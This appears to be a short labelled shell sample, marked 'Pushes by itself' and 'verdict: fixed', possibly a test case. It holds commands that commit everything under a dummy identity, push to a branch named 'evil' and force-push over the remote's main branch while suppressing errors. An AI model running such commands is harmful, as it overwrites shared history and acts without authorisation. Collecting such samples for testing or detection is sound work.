# Pushes by itself.
# verdict: fixed
mend
git config user.name x; git config user.email x@x; git commit -qam x
git push "$REMOTE" HEAD:refs/heads/evil || true
git push --force "$REMOTE" HEAD:refs/heads/main || true
